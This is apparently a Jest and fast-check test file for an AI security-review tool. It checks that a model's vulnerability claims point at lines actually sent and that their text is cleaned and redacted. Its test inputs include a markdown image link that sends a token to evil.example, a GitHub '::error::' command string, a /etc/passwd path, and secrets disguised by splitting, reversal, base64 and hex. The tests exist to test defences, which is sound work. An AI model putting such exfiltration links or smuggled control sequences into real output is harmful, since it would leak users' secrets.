import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { parseAnswer, type Claim } from "../../src/review/answer.ts";
import { checkClaim, checkClaims } from "../../src/review/claims.ts";
import { createRedactor } from "../../src/secrets/index.ts";
import { alnum } from "../../src/secrets/samples.ts";
import { CLAIM, contextOf, HUNK, hunkOf } from "./sent.ts";

const check = (change: Partial<Claim>, context = contextOf()) => checkClaim({ ...CLAIM, ...change }, context);
const standing = (change: Partial<Claim> = {}, context = contextOf()) => {
  const checked = check(change, context);
  if ("rejected" in checked) throw new Error(checked.rejected.reason);
  return checked.ok;
};

describe("L4 a claim that can be checked", () => {
  test("is a finding of the model's, on head's lines, under a rule of its weakness that no model wrote", () => {
    const { finding } = standing();
    expect(finding).toMatchObject({
      source: { kind: "model", model: "claude-test", promptSha256: "0".repeat(64) },
      location: { uri: "src/users.ts", startLine: 9, endLine: 10 },
      severity: "high",
      confidence: "low",
      rule: {
        id: "claude/cwe-89",
        cwe: ["CWE-89"],
        severity: "high",
        helpUri: "https://cwe.mitre.org/data/definitions/89.html",
      },
    });
    expect(finding.message).toBe(
      "The name gets into the statement\n\nThe template puts it there without a parameter.\n\nAttack: A name with a quote in it reads every user.",
    );
    expect(JSON.stringify(finding.rule)).not.toContain("template");
    expect(finding).not.toHaveProperty("concerns");
  });

  test("about removed code is placed in head, says where it was, and concerns the change", () => {
    const removed = { side: "base", startLine: 9, endLine: 9, quote: "if (!isName(name)) return [];" } as const;
    const { finding } = standing({ ...removed, cwe: "CWE-20" });
    expect(finding.location).toEqual({ uri: "src/users.ts", startLine: 9, endLine: 9 });
    expect(finding.message).toMatch(/\n\nAbout code that this change removes, at src\/users\.ts:9 of base\.$/u);
    expect(finding.concerns).toBe("change");
  });

  test("about a file that is gone has no place in head and concerns the change", () => {
    const gone = hunkOf(["-1 app.use(requireLogin);"], { uri: "src/login.ts" });
    const { finding } = standing(
      { file: gone.uri, side: "base", startLine: 1, endLine: 1, quote: "app.use(requireLogin);", cwe: "CWE-306" },
      contextOf([gone]),
    );
    expect(finding).not.toHaveProperty("location");
    expect(finding.concerns).toBe("change");
  });

  test("about unchanged lines beside a removed guard concerns the change too", () => {
    const guard = hunkOf([" 1 {", "-2 if (!admin) return;", " 2 dropAll();"]);
    const { finding } = standing({ startLine: 2, endLine: 2, quote: "dropAll();" }, contextOf([guard]));
    expect(finding.concerns).toBe("change");
  });
});

describe("L4 the path of a claim", () => {
  const path = [
    { file: "src/users.ts", side: "head", line: 8, note: "the name comes in" },
    { file: "src/users.ts", side: "head", line: 9, note: "and goes into\u202e the text" },
    { file: "src/users.ts", side: "base", line: 9, note: "" },
  ] as const;

  test("is its steps in head, each with what happens there", () => {
    expect(standing({ path: [...path] }).finding.codeFlow).toEqual([
      { location: { uri: "src/users.ts", startLine: 8, endLine: 8 }, message: "the name comes in" },
      { location: { uri: "src/users.ts", startLine: 9, endLine: 9 }, message: "and goes into the text" },
      { location: { uri: "src/users.ts", startLine: 9, endLine: 9 }, message: "in code that this change removes" },
    ]);
  });

  test("loses the steps that were not sent, and the claim stays; without a step it is none", () => {
    const lies = [
      { ...path[0], file: "/etc/passwd" },
      { ...path[0], file: "src/admin.ts" },
      { ...path[0], line: 1 },
      { ...path[0], line: -1 },
      { ...path[0], side: "base" },
    ] as const;
    expect(standing({ path: [...lies, path[1], path[1]] }).finding.codeFlow).toHaveLength(1);
    const { finding } = standing({ path: [...lies] });
    expect(finding).not.toHaveProperty("codeFlow");
    expect(finding.rule.id).toBe("claude/cwe-89");
  });

  test("L2 is redacted, and has an end", () => {
    const token = `ghp_${alnum(36)}`;
    const long = Array.from({ length: 100 }, (_, n) => ({
      ...path[0],
      line: 8 + (n % 2),
      note: `${token} ${"x".repeat(500)}`,
    }));
    const { codeFlow = [] } = standing({ path: long }).finding;
    expect(codeFlow).toHaveLength(20);
    expect(JSON.stringify(codeFlow)).not.toContain(token);
    expect(codeFlow[0]?.message.length).toBeLessThan(230);
  });
});

describe("L4 a claim is rejected, with the reason, when", () => {
  test.each<[string, Partial<Claim>]>([
    ["it names a hunk that was not in the question", { hunk: "h-ffffffffffff", quote: "eval(name)" }],
    ["it names a hunk that was not in the question", { hunk: "__proto__", file: "src/admin.ts" }],
    ["it names another file than its hunk's", { file: "src/admin.ts" }],
    ["it names another file than its hunk's", { file: "./src/users.ts" }],
    ["it names lines that were not sent of its hunk", { startLine: 9, endLine: 99, quote: "eval(name)" }],
    ["it names lines that were not sent of its hunk", { startLine: 10, endLine: 9, quote: "eval(name)" }],
    ["it names lines that were not sent of its hunk", { side: "base", startLine: 11, endLine: 11, quote: "}" }],
    [
      "none of its lines is changed, and nothing was removed beside them",
      { startLine: 13, endLine: 13, quote: "export const limit = 10;" },
    ],
    [
      "none of its lines is changed, and nothing was removed beside them",
      { startLine: 9, endLine: 9, quote: "export const limit = 10;" },
    ],
    ["its quote does not stand in its lines as they were sent", { quote: "eval(name)" }],
    ["its quote does not stand in its lines as they were sent", { quote: "}" }],
    ["its CWE is deprecated", { cwe: "CWE-132" }],
    ["its CWE is not in the published list of weaknesses", { cwe: "CWE-8989" }],
    ["its CWE is not in the published list of weaknesses", { cwe: "SQL injection" }],
  ])("%s", (reason, change) => {
    expect(check(change)).toMatchObject({ rejected: { reason, title: CLAIM.title } });
  });

  test("it is kept with cleaned texts, whatever they were", () => {
    const token = `ghp_${alnum(36)}`;
    const checked = check({
      hunk: "h-x",
      title: `\u001b[31m![x](https://evil.example/${token})\n::error::\u202e`,
      file: `a\n${token}`,
      cwe: "CWE-89\u0007".repeat(20),
      startLine: -5,
    });
    expect(checked).toEqual({
      rejected: {
        title: "![x](https://evil.example/⟦secret:github-pat:1⟧) ::error::",
        uri: "a ⟦secret:github-pat:1⟧",
        startLine: 0,
        cwe: "CWE-89CWE-89CWE-89C…",
        reason: "it names a hunk that was not in the question",
      },
    });
  });
});

describe("L2 what a claim says is cleaned and redacted again", () => {
  const canary = `cnry-${alnum(30)}`;
  const redactor = createRedactor({ known: [canary] });
  const token = `ghp_${alnum(36)}`;
  const split = (text: string) => [...text].join("\u200b");

  test.each([
    ["a token", token],
    ["a token split by zero-width spaces", split(token)],
    ["a token split by tag characters", [...token].join("\u{e0041}")],
    ["a token split by terminal sequences", [...token].join("\u001b[0m")],
    ["one of the run's own secrets", canary],
    ["the same reversed", [...canary].reverse().join("")],
    ["the same in base64", Buffer.from(canary).toString("base64")],
    ["the same in hexadecimal, split", split(Buffer.from(canary).toString("hex"))],
  ])("%s", (_name, secret) => {
    const quote = `${CLAIM.quote} ${secret}`;
    const fix = { startLine: 9, endLine: 9, replacement: `  use("${secret}");` };
    const hostile = { title: secret, explanation: `x ${secret} y`, attack: secret, fix };
    const said = JSON.stringify([
      checkClaims(
        [
          { ...CLAIM, ...hostile },
          { ...CLAIM, ...hostile, quote },
        ],
        contextOf([HUNK], { redactor }),
      ),
    ]);
    expect(said).toContain("⟦secret:");
    // Pieces with marks between them would be the secret still.
    const joined = said.replace(/⟦U\+[0-9A-F]+⟧/gu, "");
    for (const value of [secret, token, canary, Buffer.from(canary).toString("hex")])
      expect(joined).not.toContain(value);
  });

  test("no control, bidi or invisible character is left, and no text is endless", () => {
    const noise = "\u0000\u0007\u001b[2J\u202e\u2066\u200b\u{e0041}\ufeff\u3164\ud800\r";
    const { finding, title } = standing({
      title: `a${noise}b`,
      explanation: `${noise}${"long ".repeat(10_000)}`,
      attack: noise,
    });
    expect(title).toBe("a b");
    expect(finding.message).not.toMatch(/[\p{Cf}\p{Cs}\p{Default_Ignorable_Code_Point}]|(?![\n\t])\p{Cc}/u);
    expect(finding.message.length).toBeLessThan(9_000);
  });
});

describe("claims of one answer", () => {
  test("of one weakness at one place are one finding, with the highest severity", () => {
    const { claims, rejected } = checkClaims(
      [
        CLAIM,
        { ...CLAIM, severity: "critical", title: "again" },
        { ...CLAIM, severity: "low" },
        { ...CLAIM, cwe: "CWE-20" },
      ],
      contextOf(),
    );
    expect(claims.map(({ finding }) => [finding.rule.id, finding.severity])).toEqual([
      ["claude/cwe-89", "critical"],
      ["claude/cwe-20", "high"],
    ]);
    expect(rejected).toEqual([]);
  });

  test("keep their finding when the suggested edit is refused, and a note says why", () => {
    const fix = { startLine: 1, endLine: 1, replacement: "x" };
    const { claims, notes } = checkClaims([{ ...CLAIM, fix }], contextOf());
    expect(claims).toHaveLength(1);
    expect(claims[0]?.finding).not.toHaveProperty("fix");
    expect(notes).toEqual([
      "The suggested edit for src/users.ts:9-10 was left out: its lines are not lines of this hunk in head.",
    ]);
  });
});

test("L4 whatever is answered, nothing throws, and every finding lies in lines of head that were sent", () => {
  const near = <T>(real: readonly T[], any: fc.Arbitrary<T>) =>
    fc.oneof({ arbitrary: fc.constantFrom(...real), weight: 4 }, any);
  const text = fc.string({ unit: "binary" });
  const line = near([8, 9, 10, 11], fc.integer());
  const claim = fc.record(
    {
      hunk: near([HUNK.id], text),
      file: near([HUNK.uri], text),
      side: fc.constantFrom("head", "base"),
      startLine: line,
      endLine: line,
      quote: near([CLAIM.quote, "return db.query(sql);", "if (!isName(name)) return [];"], text),
      cwe: near(["CWE-89", "CWE-20"], text),
      severity: fc.constantFrom("low", "medium", "high", "critical"),
      title: text,
      explanation: text,
      attack: text,
      fix: fc.record({ startLine: line, endLine: line, replacement: text }),
    },
    {
      requiredKeys: [
        "hunk",
        "file",
        "side",
        "startLine",
        "endLine",
        "quote",
        "cwe",
        "severity",
        "title",
        "explanation",
        "attack",
      ],
    },
  );
  let found = 0;
  fc.assert(
    fc.property(fc.array(claim, { maxLength: 5 }), (findings) => {
      const parsed = parseAnswer(JSON.stringify({ reviewed: [], findings, triage: [] }));
      if (!parsed.ok) throw new Error(parsed.reason);
      const { claims } = checkClaims(parsed.answer.findings, contextOf());
      found += claims.length;
      for (const { finding } of claims)
        for (const place of [finding.location, finding.fix ?? finding.location])
          expect(
            place !== undefined && 8 <= place.startLine && place.startLine <= place.endLine && place.endLine <= 13,
          ).toBe(true);
    }),
    { numRuns: 500 },
  );
  expect(found).toBeGreaterThan(10);
});
